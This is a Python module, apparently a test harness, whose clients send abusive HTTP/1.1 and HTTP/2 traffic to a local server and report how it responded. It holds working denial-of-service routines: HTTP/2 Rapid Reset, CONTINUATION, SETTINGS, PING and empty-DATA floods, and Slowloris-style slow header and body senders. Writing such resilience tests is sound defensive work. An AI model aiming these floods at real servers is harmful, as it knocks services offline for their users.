"""Clients that mean harm, byte by byte: HTTP/1.1 and HTTP/2 as no library would send it. Each returns what became of it."""
import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A header field without indexing, by HPACK; lengths below 127."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def head(host, path=b"/echo"):
    return b"\x82\x86" + literal(b":path", path) + literal(b":authority", host)  # GET, http


class Client:
    def __init__(self, port, http2=False, timeout=20):
        self.socket = socket.create_connection(("127.0.0.1", port), timeout)
        if http2:
            self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0))

    def send(self, data):
        """False when the other side has ended it."""
        try:
            self.socket.sendall(data)
            return True
        except OSError:
            return False

    def rest(self, seconds=20, most=1 << 20):
        """Everything until the other side closes; and whether it did."""
        self.socket.settimeout(seconds)
        data = b""
        try:
            while len(data) < most:
                more = self.socket.recv(65536)
                if not more:
                    return data, True
                data += more
        except ConnectionError:
            return data, True
        except OSError:
            pass
        return data, False

    def close(self):
        self.socket.close()


def goaway(data):
    """The error code of a GOAWAY in the bytes, or None."""
    at = 0
    while at + 9 <= len(data):
        size = int.from_bytes(data[at:at + 3], "big")
        if data[at + 3] == GOAWAY and at + 9 + size <= len(data):
            return int.from_bytes(data[at + 13:at + 17], "big")
        at += 9 + size
    return None


def flood(port, frames, seconds=60, each=500):
    """Sends what `frames(i)` gives until the other side ends it; returns (ended, the error code, frames sent)."""
    client, sent, deadline = Client(port, http2=True), 0, time.monotonic() + seconds
    client.socket.settimeout(5)
    ended = False
    while time.monotonic() < deadline:
        if not client.send(b"".join(frames(i) for i in range(sent, sent + each))):
            ended = True
            break
        sent += each
        client.socket.setblocking(False)
        try:
            data = client.socket.recv(65536)
            if not data or goaway(data) not in (None, 0):
                client.close()
                return True, goaway(data), sent
        except BlockingIOError:
            pass
        except OSError:
            ended = True
            break
        finally:
            if client.socket.fileno() >= 0:
                client.socket.settimeout(5)
    client.close()
    return ended, None, sent


def rapid_reset(port, host, **more):
    return flood(port, lambda i: frame(HEADERS, 5, 2 * i + 1, head(host)) + frame(RST, 0, 2 * i + 1, b"\0\0\0\x08"), **more)


def continuation(port, host, **more):
    start = lambda i: frame(HEADERS, 1, 1, head(host)) if i == 0 else b""
    return flood(port, lambda i: start(i) + frame(CONTINUATION, 0, 1, literal(b"x-%d" % i, b"y" * 100)), **more)


def empty_continuation(port, host, **more):
    start = lambda i: frame(HEADERS, 1, 1, head(host)) if i == 0 else b""
    return flood(port, lambda i: start(i) + frame(CONTINUATION, 0, 1), **more)


def settings(port, **more):
    return flood(port, lambda i: frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)), **more)


def pings(port, **more):
    return flood(port, lambda i: frame(PING, 0, 0, struct.pack(">Q", i)), **more)


def empty_data(port, host, **more):
    start = lambda i: frame(HEADERS, 4, 1, b"\x83\x86" + literal(b":path", b"/echo") + literal(b":authority", host)) if i == 0 else b""
    return flood(port, lambda i: start(i) + frame(DATA, 0, 1), **more)


def slow_head(port, host, seconds, every=0.25):
    """A head that never ends, byte by byte; the seconds until the other side had enough, or None."""
    client, started = Client(port), time.monotonic()
    client.send(b"GET /echo HTTP/1.1\r\nHost: " + host + b"\r\nX-A: ")
    while time.monotonic() - started < seconds:
        client.socket.settimeout(every)
        try:
            data = client.socket.recv(4096)
            if not data or b" 408 " in data[:16]:
                return time.monotonic() - started
        except TimeoutError:
            pass
        except OSError:
            return time.monotonic() - started
        if not client.send(b"a"):
            return time.monotonic() - started
    return None


def slow_body(port, host, seconds, every=0.25):
    client, started = Client(port), time.monotonic()
    client.send(b"POST /echo HTTP/1.1\r\nHost: " + host + b"\r\nContent-Length: 100000\r\n\r\n")
    while time.monotonic() - started < seconds:
        client.socket.settimeout(every)
        try:
            data = client.socket.recv(4096)
            if not data or data[9:10] == b"4":
                return time.monotonic() - started
        except TimeoutError:
            pass
        except OSError:
            return time.monotonic() - started
        if not client.send(b"a"):
            return time.monotonic() - started
    return None
